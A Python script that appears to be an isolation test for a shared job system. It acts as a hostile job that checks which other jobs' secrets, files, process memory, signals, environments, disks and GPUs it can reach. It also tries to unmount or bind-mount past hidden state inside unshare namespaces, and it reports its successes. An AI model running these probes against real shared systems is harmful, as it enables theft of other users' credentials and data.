"""The attacker: a member's job that tries everything which is not its own. Standard library alone.

`python inside_job.py TARGETS` reads names and marks from JSON and prints one line of JSON: by attack, what it
got. An attack that got nothing is not in it.
"""

import ctypes
import errno
import json
import os
import signal
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

PTRACE_SEIZE = 0x4206
MOST = 1 << 22
"""Bytes that are read of one file."""


def content(path: str) -> bytes:
    try:
        if not stat.S_ISREG(os.stat(path).st_mode):
            return b""
        with open(path, "rb") as file:
            return file.read(MOST)
    except OSError:
        return b""


def processes() -> Iterator[str]:
    """Those of others."""
    own = {os.getpid(), os.getppid()}
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in own:
            yield f"/proc/{name}"


def reads(paths: list[str]) -> Callable[[], str]:
    return lambda: ", ".join(path for path in paths if content(path))


def writes(paths: list[str]) -> Callable[[], str]:
    def attack() -> str:
        got = []
        for path in paths:
            try:
                os.close(os.open(path, os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK))
                got.append(path)
            except OSError as error:
                if error.errno == errno.ENXIO:  # a FIFO that nobody reads: it could be opened
                    got.append(path)
        return ", ".join(got)

    return attack


def creates(folders: list[str]) -> Callable[[], str]:
    def attack() -> str:
        got = []
        for folder in folders:
            path = os.path.join(folder, "made-by-the-attacker")
            try:
                os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
                os.unlink(path)
                got.append(folder)
            except OSError:
                continue
        return ", ".join(got)

    return attack


def lists(folders: list[str]) -> Callable[[], str]:
    def attack() -> str:
        got = []
        for folder in folders:
            try:
                got += [folder] if os.listdir(folder) else []
            except OSError:
                continue
        return ", ".join(got)

    return attack


def finds(root: str, marks: list[str]) -> Callable[[], str]:
    """Marks of others in any file below a folder, by names that need not be known."""
    but = os.path.dirname(os.environ["GRUS_CONTROL"])  # what it was told itself is in its own folder

    def attack() -> str:
        got = []
        for folder, _, names in os.walk(root):
            for name in names:
                path = os.path.join(folder, name)
                if not path.startswith(but) and any(mark.encode() in content(path) for mark in marks):
                    got.append(path)
        return ", ".join(got)

    return attack


def in_proc(file: str, marks: list[str]) -> Callable[[], str]:
    def attack() -> str:
        held = {process: content(f"{process}/{file}") for process in processes()}
        return ", ".join(one for one, text in held.items() if any(mark.encode() in text for mark in marks))

    return attack


def through_proc(link: str, paths: list[str]) -> Callable[[], str]:
    """Files of others by the root, the folder or the descriptors of another process."""

    def attack() -> str:
        found = [f"{process}/{link}{path}" for process in processes() for path in paths]
        return ", ".join(path for path in found if content(path))

    return attack


def descriptors() -> str:
    got = []
    for process in processes():
        try:
            got += [f"{process}/fd/{name}" for name in os.listdir(f"{process}/fd")]
        except OSError:
            continue
    return ", ".join(got[:3])


def memory(pids: list[int]) -> str:
    got = []
    for pid in pids:
        try:
            os.close(os.open(f"/proc/{pid}/mem", os.O_RDONLY))
            got.append(str(pid))
        except OSError:
            continue
    return ", ".join(got)


def traces(pids: list[int]) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    return ", ".join(str(pid) for pid in pids if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0)


def signals(pids: list[int]) -> str:
    """With one that does nothing: that it may be sent is enough."""
    got = []
    for pid in pids:
        try:
            os.kill(pid, signal.SIGCONT)
            got.append(str(pid))
        except OSError:
            continue
    return ", ".join(got)


def unmounts(state: str, database: str) -> str:
    """Take away what hides the state, in a namespace of one's own where one is root."""
    lines = (
        f"umount -l {state}; cat {database}",
        f"mkdir -p /tmp/m; mount --bind / /tmp/m; cat /tmp/m{database}",
    )
    got = []
    for line in lines:
        for before in ((), ("unshare", "-Urm"), ("unshare", "-Urmpf", "--mount-proc")):
            try:
                done = subprocess.run(
                    [*before, "sh", "-c", line], capture_output=True, timeout=300, check=False
                )
            except (OSError, subprocess.TimeoutExpired):
                continue
            got += [" ".join([*before, line])] if b"SQLite format" in done.stdout else []
    return ", ".join(got)


def disks() -> str:
    """Device files that let a job reach past the file system, or another job's GPU."""
    got = []
    for path in Path("/dev").iterdir():
        try:
            other_gpu = path.name[:6] == "nvidia" and path.name[6:].isdigit()
            if (path.is_block_device() or other_gpu) and os.access(path, os.R_OK):
                got.append(str(path))
        except OSError:
            continue
    return ", ".join(got)


def attacks(told: dict[str, Any]) -> dict[str, Callable[[], str]]:
    marks, pids = told["marks"], told["pids"]
    found: dict[str, Callable[[], str]] = {
        f"read {name}": reads(paths) for name, paths in told["read"].items()
    }
    found |= {f"write {name}": writes(paths) for name, paths in told["write"].items()}
    found |= {f"create in {name}": creates(paths) for name, paths in told["create"].items()}
    found |= {f"list {name}": lists(paths) for name, paths in told["list"].items()}
    found |= {
        "find marks in the state": finds(told["state"], marks),
        "environment in /proc": in_proc("environ", marks),
        "command lines in /proc": in_proc("cmdline", marks[:1]),
        "files by the root of another process": through_proc("root", told["secret_files"]),
        "files by the folder of another process": through_proc("cwd", told["secret_files"]),
        "descriptors of another process": descriptors,
        "memory of another process": lambda: memory(pids),
        "trace another process": lambda: traces(pids),
        "signal another process": lambda: signals(pids),
        "unmount what hides the state": lambda: unmounts(told["state"], told["database"]),
        "open disks or GPUs of others": disks,
        "token in the own environment": lambda: ", ".join(
            name for name, value in os.environ.items() if told["token"] in value or name == "GRUS_TOKEN"
        ),
    }
    return found


def main() -> None:
    told = json.loads(sys.argv[1])
    tried = attacks(told)
    got = {name: text for name, attack in tried.items() if (text := attack())}
    print(json.dumps({"tried": sorted(tried), "got": got}), flush=True)


if __name__ == "__main__":
    main()
